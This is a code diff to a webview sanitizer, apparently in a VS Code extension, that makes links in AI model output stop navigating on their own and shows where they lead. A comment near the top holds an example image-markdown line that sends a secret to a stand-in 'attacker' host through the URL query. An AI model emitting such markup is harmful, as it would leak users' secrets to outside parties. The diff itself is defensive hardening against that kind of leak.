@@ -9,6 +9,7 @@
 import DOMPurify from 'dompurify';
 import MarkdownIt from 'markdown-it';
 import type { Token } from 'markdown-it';
+import { linkDestination, linkTextMatches } from '../protocol/links';
 
 /**
  * Remote images are not loaded: an answer could embed `![](https://attacker/?q=<secret>)` and
@@ -78,6 +79,33 @@ purify.addHook('afterSanitizeAttributes', (node) => {
 
 /** Sanitizes HTML produced by markdown-it into a fragment of this document. */
 export function sanitize(html: string): DocumentFragment {
+  return guardLinks(purifyHtml(html));
+}
+
+/**
+ * Links of model output never navigate by themselves: the URL moves from `href` to `data-url`
+ * (so neither the webview nor VS Code's link handling opens it on a click), the link gets
+ * `answer-link` (src/webview/view/answerLinks.ts posts `openLink`, the host asks when needed), and
+ * a link whose text does not say where it goes shows its destination after it.
+ */
+function guardLinks(fragment: DocumentFragment): DocumentFragment {
+  for (const a of Array.from(fragment.querySelectorAll('a[href]'))) {
+    const href = a.getAttribute('href') ?? '';
+    a.removeAttribute('href');
+    a.setAttribute('data-url', href);
+    a.setAttribute('role', 'link');
+    a.setAttribute('tabindex', '0');
+    a.classList.add('answer-link');
+    if (linkTextMatches(a.textContent ?? '', href)) continue;
+    const destination = fragment.ownerDocument.createElement('span');
+    destination.className = 'link-destination';
+    destination.textContent = ` (${linkDestination(href) ?? href})`;
+    a.after(destination);
+  }
+  return fragment;
+}
+
+function purifyHtml(html: string): DocumentFragment {
   return purify.sanitize(html, {
     ALLOWED_TAGS,
     ALLOWED_ATTR: [...ALLOWED_ATTR, 'rel', 'loading', 'referrerpolicy'],
